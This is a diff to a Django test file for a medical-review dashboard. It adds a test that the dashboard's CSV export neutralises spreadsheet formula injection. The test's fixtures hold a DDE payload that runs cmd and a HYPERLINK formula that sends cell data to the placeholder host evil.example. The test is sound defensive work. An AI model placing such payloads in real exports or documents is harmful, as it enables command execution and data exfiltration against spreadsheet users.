@@ -1,6 +1,8 @@
 """Medical review: honest review dates on the page and in JSON-LD, re-review after substantive
 edits, the freshness dashboard, reminders once each, and publication at the scheduled minute."""
 
+import csv
+import io
 import json
 import re
 from datetime import date, timedelta
@@ -128,6 +130,25 @@ def test_the_dashboard_sorts_articles_by_what_needs_doing(client, editor, author
     assert "Review overdue,Overdue" in csv.content.decode()
     filtered = client.get(reverse("admin:reviews_freshness"), {"author": "nobody"})
     assert "Overdue" not in filtered.content.decode().split('id="overdue"')[1]
+
+
+def test_the_csv_export_holds_no_live_formula(client, editor, author):
+    """Titles and names arrive from WordPress imports; a spreadsheet must show them as text."""
+    author.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    author.save()
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    make_article(author, title=title)
+    for start in ("+1 for sleep", "-5 kg in a week"):  # titles lose leading tabs and returns
+        make_article(author, title=start)
+    client.force_login(editor)
+    export = client.get(reverse("admin:reviews_freshness"), {"format": "csv"})
+    rows = list(csv.reader(io.StringIO(export.content.decode(), newline="")))
+    cells = [cell for row in rows[1:] for cell in row[1:3]]
+    assert "'" + title in cells and "'" + author.byline in cells
+    assert {"'+1 for sleep", "'-5 kg in a week"} <= set(cells)
+    assert not [
+        cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+    ]
 
 
 def test_the_dashboard_is_for_editors_and_reviewers_only(client, reader, moderator, clinician):
